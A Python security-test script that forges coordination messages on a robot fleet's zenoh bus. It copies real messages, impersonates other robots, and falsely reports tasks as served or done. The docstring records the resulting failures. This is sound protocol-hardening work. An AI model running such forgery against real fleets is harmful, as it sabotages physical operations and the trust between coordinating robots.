"""A forger of coordination messages on the fleet's bus (issue 51): publishes, with raw
zenoh-python and msgpack (no mrta code on the send path), once, what the hostile probe sent under
the demo's keys — copied from a real message of the run, so that its header (sender, stamp) is
plausible.

argv: MODE ARG BUS — the run's rendezvous, which this session connects to, or on a secured
fleet a certified robot's config (FLEET/robot2.json5: it forges under its own key)
  central-served  TASKS   a `Progress` of robot2's saying every task of TASKS (comma-separated)
                          served (it crashed the dispatcher)
  ssi-round       -       a `Round` of robot1's (the auctioneer) numbered 2^62
  ssi-served      N       a `Bid` of robot2's to the auctioneer saying every task of 0…N-1
                          served (the auctioneer believed it: 0/4 delivered)
  cbba-done       N       a `Bids` of robot2's saying every task of 0…N-1 it has not won done
                          (what it won, robot2 may say it served: docs/security.md), copied
                          from its latest and stamped 5 s after the run's clock (in lockstep it then counts
                          at that time, after everything its sender said before: not
                          superseded)
  cbba-done-all   N       the same, every task of 0…N-1 done (what it won too)
  murdoch-claim   -       a MURDOCH `Claim` copied from the first one heard (holder H, task T,
                          since S), said once under another robot's key with since S − 1 and a
                          20 s lease (H yielded T to it, and T waited for the forged lease)
  participant     NAME    a stranger's lockstep participant token under NAME, held until the
                          forger is ended (it was waited for, given up, and made the run
                          inexact: issue 51.3)
  delivery-done   ROBOT   four `TaskEvent done` in ROBOT's name, one per task of the default
                          instance (t1…t4), stamped at the run's clock (the robot never moved:
                          they ended the run at 3.3 s "every task done", delivered 0/4)
Prints {"ready": true} once subscribed, {"forged": KEY} once sent."""

import json
import sys
import threading
import time
from pathlib import Path

import msgpack
import zenoh

from mrta_zenoh.bus import BusOptions
from mrta_zenoh.bus.zenoh_bus import open_session

mode, arg, bus = sys.argv[1], sys.argv[2], sys.argv[3]
session = open_session(BusOptions(zenoh_config=Path(bus)) if bus.endswith(".json5")
                       else BusOptions(connect=[bus]))
ENC = "application/msgpack;"
if mode == "participant":
    token = session.liveliness().declare_token(f"@mrta/lockstep/participant/{arg}")
    print(json.dumps({"forged": f"@mrta/lockstep/participant/{arg}"}), flush=True)
    time.sleep(600)
    sys.exit(0)
SOURCES = {"central-served": ("robot2/central/progress", "route_msgs/Progress"),
           "ssi-round": ("robot1/ssi/round", "ssi_msgs/Round"),
           "ssi-served": ("robot2/ssi/bid/*", "ssi_msgs/Bid"),
           "cbba-done": ("robot2/cbba/bids", "cbba_msgs/Bids"),
           "cbba-done-all": ("robot2/cbba/bids", "cbba_msgs/Bids"),
           "delivery-done": ("clock", ""),
           "murdoch-claim": ("*/murdoch/claim", "murdoch_msgs/Claim")}
key, type_name = SOURCES[mode]
if mode == "delivery-done":  # nothing to copy: said once the run's clock has gone 2 s
    key, type_name = f"{arg}/delivery/done", "delivery_msgs/TaskEvent"
real: list[dict] = []
heard = threading.Event()


def on_sample(sample) -> None:
    real.append(msgpack.unpackb(sample.payload.to_bytes()))
    keys.append(str(sample.key_expr))
    heard.set()


keys: list[str] = []
now = [0.0]


def on_clock(sample) -> None:
    now[0] = msgpack.unpackb(sample.payload.to_bytes())["stamp"]
    if mode == "delivery-done" and now[0] >= 2.0:
        heard.set()


sub = session.declare_subscriber(key, on_sample) if mode != "delivery-done" else None
clock = session.declare_subscriber("clock", on_clock)
print(json.dumps({"ready": True}), flush=True)
heard.wait(120)
time.sleep(0.2)
if mode == "delivery-done":
    pub = session.declare_publisher(key, congestion_control=zenoh.CongestionControl.BLOCK)
    time.sleep(0.3)
    for seq, task in enumerate(("t1", "t2", "t3", "t4"), 1000):
        done = {"header": {"frame_id": arg, "stamp": now[0], "seq": seq}, "task_id": task,
                "event": "done"}
        pub.put(msgpack.packb(done), encoding=zenoh.Encoding(ENC + type_name))
    print(json.dumps({"forged": key}), flush=True)
    time.sleep(1.0)
    session.close()
    sys.exit(0)
msg = dict(real[0] if not mode.startswith("cbba-done") else real[-1])
msg["header"] = {**msg["header"], "seq": msg["header"]["seq"] + 1000}
if mode == "central-served":
    msg["served"] = arg.split(",")
elif mode == "ssi-served":
    msg["served"] = list(range(int(arg)))
    key = keys[0]  # robot2/ssi/bid/<its auctioneer>
elif mode == "murdoch-claim":
    holder = msg["header"]["frame_id"]
    other = "robot5" if holder != "robot5" else "robot4"
    msg["header"]["frame_id"] = other
    msg["since"], msg["lease"] = msg["since"] - 1.0, 20.0
    key = f"{other}/murdoch/claim"
    print(json.dumps({"holder": holder, "task": msg["task_id"], "as": other}), flush=True)
elif mode == "ssi-round":
    msg["round"] = 2 ** 62
    msg["owners"] = [-1] * len(msg["owners"])
    msg["award"] = -1
else:
    won = {j for j, w, _ in msg["winners"] if w == 1}  # robot2 is robot index 1
    msg["done"] = [j for j in range(int(arg)) if j not in won or mode == "cbba-done-all"]
    msg["header"]["stamp"] = max(msg["header"]["stamp"], now[0]) + 5.0
pub = session.declare_publisher(key, congestion_control=zenoh.CongestionControl.BLOCK)
time.sleep(0.3)  # the publisher's matching declarations travel first
pub.put(msgpack.packb(msg), encoding=zenoh.Encoding(ENC + type_name))
print(json.dumps({"forged": key}), flush=True)
time.sleep(1.0)
session.close()
